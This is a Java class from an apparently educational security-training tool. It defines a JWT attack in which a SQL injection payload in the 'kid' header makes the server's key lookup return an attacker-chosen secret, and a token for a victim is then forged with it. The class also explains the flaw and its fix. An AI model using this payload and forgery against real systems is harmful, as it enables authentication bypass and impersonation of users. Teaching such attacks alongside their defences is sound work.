package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CredentialException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Has the database answer with a key of the attacker's choice. */
@AutoService(Attack.class)
public final class JwtKidSql extends JwtAttack {
  private static final String SECRET = "a secret that Dave has chosen himself";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-kid-sql",
        "A key out of an injection",
        AttackGroup.JWT,
        "The attacker writes a piece of SQL into kid, so that the query for the key answers with a secret of theirs, and signs with it.",
        "Nothing but a token to copy from.",
        "The server pastes kid into the statement that finds the key, and an apostrophe ends the text that it was meant to be.",
        "kid-in-sql",
        List.of("RFC 8725 §3.10", "RFC 7515 §4.1.4", "CWE-89"),
        "Give values to a statement as parameters, never as part of its text. Better still, look kid up among the keys in memory (RFC 8725 §3.10).");
  }

  @Override
  String token(Target target) throws CredentialException {
    String kid =
        target.makes(
            "Write a kid that ends the text it is put into, and adds an answer of its own.",
            "kid",
            "' UNION SELECT '" + SECRET + "' --");
    return target.makes(
        "Write alg HS256, that kid and sub alice, and sign with the secret that the database will answer with.",
        "forged token",
        new SharedSecret(SECRET.getBytes(StandardCharsets.US_ASCII))
            .signAs(kid, ownToken(target).withClaim("sub", Loot.VICTIM))
            .text());
  }
}
